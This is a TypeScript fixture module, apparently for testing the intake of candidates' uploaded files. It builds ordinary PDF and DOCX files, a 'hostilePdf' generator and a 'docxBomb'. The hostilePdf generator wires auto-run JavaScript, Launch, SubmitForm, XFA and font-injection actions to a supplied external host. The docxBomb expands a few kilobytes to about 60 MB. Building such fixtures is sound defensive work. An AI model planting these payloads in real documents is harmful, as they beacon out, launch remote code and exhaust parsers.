/** Files as candidates, and people with other plans, send them. */
import { crc32, deflateRawSync } from 'node:zlib'

/** `objects`: by their numbers, the first one the catalogue. */
export const pdfOf = (objects: readonly string[]): Buffer => {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF`
  return Buffer.from(text, 'latin1')
}

export const contentOf = (lines: readonly string[]): string => {
  const drawn = lines.map((line, index) => `BT /F1 20 Tf 60 ${760 - index * 32} Td (${line}) Tj ET`).join('\n')
  return `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`
}

/** A page of text. */
export const pdfWith = (lines: readonly string[]): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    contentOf(lines),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])

/** What a part of a document may do when it is opened, seen, pointed at or clicked. */
const hostileActions = (elsewhere: string): readonly string[] => [
  `/S /URI /URI (${elsewhere}/link)`,
  `/S /URI /URI (javascript:fetch\\('${elsewhere}/address'\\))`,
  `/S /JavaScript /JS (app.launchURL\\("${elsewhere}/button"\\))`,
  `/S /Launch /F (${elsewhere}/launch.exe) /NewWindow true`,
  `/S /GoToR /F << /FS /URL /F (${elsewhere}/remote.pdf) >> /D [0 /Fit] /NewWindow true`,
  `/S /SubmitForm /F << /FS /URL /F (${elsewhere}/submit) >> /Flags 4`,
  `/S /ImportData /F << /FS /URL /F (${elsewhere}/import) >>`,
  `/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${elsewhere}/clip) >> >> >>`,
  `/S /Movie /Operation /Play /T (${elsewhere}/movie)`,
  '/S /Named /N /Print',
]

/** Scripts at its opening, in its names, its form and its font, and an annotation for each action over the whole page. */
export function hostilePdf(line: string, elsewhere: string): Buffer {
  const script = (name: string): string =>
    `<< /S /JavaScript /JS (app.launchURL\\("${elsewhere}/${name}", true\\); fetch\\("${elsewhere}/${name}"\\)) >>`
  const annotations = hostileActions(elsewhere).flatMap((action) => [
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << ${action} >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 90 40] /A << ${action} >> /AA << /PO << ${action} >> /E << ${action} >> /D << ${action} >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 595 842] /A << ${action} >> /AA << /PV << ${action} >> >> >>`,
  ])
  const files = ['FileAttachment', 'RichMedia', 'Movie', '3D'].map(
    (kind) =>
      `<< /Type /Annot /Subtype /${kind} /Rect [0 0 200 200] /FS << /FS /URL /F (${elsewhere}/${kind}) >> /Movie << /F (${elsewhere}/${kind}) >> >>`,
  )
  const first = 6
  const numbers = [...annotations, ...files].map((_, index) => `${first + index} 0 R`)
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('opened')} /AA << /WC << /S /SubmitForm /F (${elsewhere}/closed) >> /DP ${script('printed')} >> ` +
      `/Names << /JavaScript << /Names [(a) ${script('named')}] >> >> ` +
      `/AcroForm << /Fields [${numbers.join(' ')}] /XFA (<xdp><event activity="initialize"><script>fetch\\("${elsewhere}/xfa"\\)</script></event></xdp>) /CO [${numbers[1]}] >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O ${script('page')} >> /Annots [${numbers.join(' ')}] >>`,
    contentOf([line]),
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); fetch\\("${elsewhere}/font"\\); //)] >>`,
    ...annotations,
    ...files,
  ])
}

interface ZippedFile {
  readonly name: string
  readonly content: Buffer
}

/** A zip archive, deflated. */
function zipOf(files: readonly ZippedFile[]): Buffer {
  const locals: Buffer[] = []
  const entries: Buffer[] = []
  let at = 0
  for (const { name, content } of files) {
    const packed = deflateRawSync(content)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(crc32(content), 14)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(content.length, 22)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 4)
    entry.writeUInt16LE(20, 6)
    local.copy(entry, 10, 8, 28)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(at, 42)
    locals.push(local, Buffer.from(name), packed)
    entries.push(entry, Buffer.from(name))
    at += local.length + name.length + packed.length
  }
  const directory = Buffer.concat(entries)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, directory, end])
}

const word = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** `body`: of WordprocessingML. */
export const docxOf = (body: string): Buffer =>
  zipOf([
    {
      name: '[Content_Types].xml',
      content: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
    },
    {
      name: 'word/document.xml',
      content: Buffer.from(`<?xml version="1.0"?><w:document xmlns:w="${word}"><w:body>${body}</w:body></w:document>`),
    },
  ])

export const docxWith = (paragraphs: readonly string[]): Buffer =>
  docxOf(paragraphs.map((text) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`).join(''))

/** A few kilobytes that become 60 MB. */
export const docxBomb = (): Buffer => docxOf(`<w:p><w:r><w:t>${'bomb '.repeat(12_000_000)}</w:t></w:r></w:p>`)
